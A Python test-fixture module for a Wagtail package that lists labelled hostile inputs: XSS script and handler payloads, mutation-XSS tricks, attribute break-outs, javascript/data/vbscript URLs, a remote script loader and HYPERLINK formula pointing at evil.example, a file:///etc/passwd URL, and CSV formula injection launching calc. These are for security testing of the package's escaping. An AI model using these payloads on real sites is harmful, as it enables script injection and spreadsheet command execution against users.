"""Hostile input, one list, each payload with an id (issue 10).

Every payload goes into every editor-writable text field, by both routes (see
``inventory.py`` and the tests). Payloads meant to run something carry a
``MARKERS`` string (``alert(``, ``evil.example``, ``MsgBox``), so a check can
tell injected script from script the package or Wagtail wrote.

Kinds say what a payload aims at; they only pick which payloads a URL or phone
field's own tests look at first, as every field gets every payload.
"""

from __future__ import annotations

from dataclasses import dataclass

#: In every payload meant to execute: what injected script would contain.
MARKERS = ("alert(", "evil.example", "msgbox")


@dataclass(frozen=True)
class Payload:
    id: str
    value: str
    kind: str  # "markup", "breakout", "url", "phone", "text", "csv"
    #: PostgreSQL refuses NUL in text and JSON columns: that route skips it there.
    has_nul: bool = False

    def __str__(self) -> str:
        return self.id


LONG = 12_000

PAYLOADS = [
    # -- Script and handler injection -------------------------------------------
    Payload("script-tag", "<script>alert(1)</script>", "markup"),
    Payload("script-src-upper", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "markup"),
    Payload("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>", "markup"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>", "markup"),
    Payload("svg-onload", "<svg/onload=alert(1)>", "markup"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>", "markup"),
    Payload("body-onload", "<body onload=alert(1)>", "markup"),
    Payload(
        "iframe-srcdoc",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "markup",
    ),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>", "markup"),
    Payload(
        "link-handler",
        '<a href="https://ok.example/" onmouseover="alert(1)">hover</a>',
        "markup",
    ),
    Payload(
        "style-url",
        '<p style="background:url(javascript:alert(1));width:expression(alert(1))">s</p>',
        "markup",
    ),
    Payload(
        "style-element", "<style>@import 'http://evil.example/x.css';</style>", "markup"
    ),
    Payload(
        "meta-refresh",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "markup",
    ),
    Payload(
        "form-action",
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
        "markup",
    ),
    Payload("object-data", '<object data="javascript:alert(1)"></object>', "markup"),
    Payload("base-href", '<base href="javascript:alert(1)//">', "markup"),
    Payload(
        "math-xlink", '<math><a xlink:href="javascript:alert(1)">m</a></math>', "markup"
    ),
    Payload(
        "svg-animate",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text y="20">x</text></a></svg>',
        "markup",
    ),
    Payload("cdata-mxss", "<![CDATA[><img src=x onerror=alert(1)>]]>", "markup"),
    Payload(
        "cdata-spaced-mxss", "<![CDATA[ > <img src=x onerror=alert(1)> ]]>", "markup"
    ),
    Payload("comment-mxss", "<!--><img src=x onerror=alert(1)>-->", "markup"),
    Payload(
        "noscript-mxss",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "markup",
    ),
    Payload(
        "mglyph-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "markup",
    ),
    Payload(
        "wagtail-page-link-bogus",
        '<a linktype="page" id="1 onclick=alert(1)">page</a>',
        "markup",
    ),
    Payload(
        "wagtail-embed-handler",
        '<embed embedtype="image" id="1" format="left" alt="x" onerror="alert(1)"/>',
        "markup",
    ),
    Payload(
        "wagtail-embed-media-js",
        '<embed embedtype="media" url="javascript:alert(1)"/>',
        "markup",
    ),
    Payload(
        "rich-link-js-entities",
        '<a href="jav&#x09;ascript&colon;alert(1)">e</a>'
        '<a href="&#106;avascript:alert(1)">n</a>',
        "markup",
    ),
    # -- Attribute and element break-outs ---------------------------------------
    Payload("dq-breakout", '" onmouseover="alert(1)" x="', "breakout"),
    Payload("sq-breakout", "' onfocus='alert(1)' autofocus='", "breakout"),
    Payload("tag-breakout", '"><script>alert(1)</script>', "breakout"),
    Payload("img-breakout", "'\"><img src=x onerror=alert(1)>", "breakout"),
    Payload("backtick-breakout", "`onmouseover=alert(1)` x", "breakout"),
    Payload("unquoted-breakout", "x onmouseover=alert(1) y", "breakout"),
    Payload("textarea-breakout", "</textarea><script>alert(1)</script>", "breakout"),
    Payload("title-breakout", "</title><script>alert(1)</script>", "breakout"),
    Payload("script-close", "</script><script>alert(1)</script>", "breakout"),
    Payload("script-close-mixed", "</ScRiPt\t><sCrIpT>alert(1)</ScRiPt>", "breakout"),
    Payload("script-comment", "<!--<script>alert(1)//", "breakout"),
    Payload("json-breakout", '\\"}]}</script><script>alert(1)</script>', "breakout"),
    Payload("line-separators", "one\u2028two\u2029three alert(1)", "breakout"),
    Payload("template-syntax", "{{ request.META }}{% debug %}${alert(1)}", "breakout"),
    # -- Script URLs: mixed case, entities, tabs, control and full-width chars ----
    Payload("js-url", "javascript:alert(1)", "url"),
    Payload("js-url-mixed-case", "JaVaScRiPt:alert(1)", "url"),
    Payload("js-url-leading-space", "  javascript:alert(1)", "url"),
    Payload("js-url-tab", "java\tscript:alert(1)", "url"),
    Payload("js-url-newline", "java\nscript:alert(1)", "url"),
    Payload("js-url-control", "\x01\x1fjavascript:alert(1)", "url"),
    Payload("js-url-entity-colon", "javascript&colon;alert(1)", "url"),
    Payload("js-url-numeric-entity", "&#106;avascript:alert(1)", "url"),
    Payload("js-url-hex-entity", "&#x6A;&#x61;vascript:alert(1)", "url"),
    Payload("js-url-full-width", "ｊａｖａｓｃｒｉｐｔ：alert(1)", "url"),
    Payload("js-url-comment-newline", "javascript://ok.example/%0Aalert(1)", "url"),
    Payload(
        "data-url-base64",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "url",
    ),
    Payload("data-url-upper", "DATA:text/html,<script>alert(1)</script>", "url"),
    Payload("vbscript-url", "vbscript:MsgBox(1)", "url"),
    Payload("vbscript-url-mixed", "VbScRiPt:MsgBox(1)", "url"),
    Payload("file-url", "file:///etc/passwd#evil.example", "url"),
    Payload("protocol-relative", "//evil.example/x", "url"),
    Payload("https-attr-breakout", 'https://ok.example/"onmouseover="alert(1)', "url"),
    Payload("https-script-path", "https://ok.example/<script>alert(1)</script>", "url"),
    Payload("https-userinfo", "https://ok.example@evil.example/", "url"),
    # -- Malformed URLs and IPv6 -------------------------------------------------
    Payload("ipv6-unclosed", "https://[::1", "url"),
    Payload("ipv6-bogus", "http://[evil.example]/", "url"),
    Payload("ipv6-bad-port", "https://[::1]:99999/", "url"),
    Payload("full-width-hash", "https://evil.example\uff03top", "url"),
    Payload("full-width-colon", "https://evil.example\uff1a443/", "url"),
    Payload("scheme-only", "https:", "url"),
    Payload("backslashes", "\\\\evil.example\\share", "url"),
    # -- Phone numbers -----------------------------------------------------------
    Payload("phone-script", "0151 496 0000<script>alert(1)</script>", "phone"),
    Payload("phone-breakout", '0151 496 0000" onclick="alert(1)', "phone"),
    Payload("phone-tel-js", "tel:javascript:alert(1)", "phone"),
    Payload("phone-extension-markup", "0151 496 0000;ext=<b>1</b> alert(1)", "phone"),
    Payload("phone-arabic-digits", "٠١٥١ ٤٩٦ ٠٠٠٠", "phone"),
    Payload("phone-overlong", "1" * 600, "phone"),
    # -- Text: controls, bidi, long ----------------------------------------------
    Payload("control-chars", "a\x01b\x07c\x0bd\x1be\x7ff\x9bg", "text"),
    Payload("nul-byte", "before\x00after", "text", has_nul=True),
    Payload("bidi-zero-width", "\u202egnp.exe\u202c \u200b\u200d\ufeff", "text"),
    Payload("overlong-ascii", "A" * LONG, "text"),
    Payload("overlong-astral", "\U0001f4a5" * (LONG // 4), "text"),
    # Deep enough to exhaust a recursive walk of the tree; not so deep that the
    # HTML5 parser reading the page back takes seconds (its cost grows with the
    # square of the depth).
    Payload("overlong-markup", "<b>" * 400 + "<script>alert(1)</script>", "text"),
    # -- Spreadsheet formulas (the review CSV) ---------------------------------------
    Payload("csv-equals", '=HYPERLINK("http://evil.example","x")', "csv"),
    Payload("csv-plus", "+cmd|' /C calc'!A0 evil.example", "csv"),
    Payload("csv-minus", "-2+3+cmd|' /C calc'!A0", "csv"),
    Payload("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0", "csv"),
    Payload("csv-tab", "\t=1+1", "csv"),
    Payload("csv-cr", "\r=1+1", "csv"),
]

BY_ID = {payload.id: payload for payload in PAYLOADS}
assert len(BY_ID) == len(PAYLOADS), "payload ids must be unique"
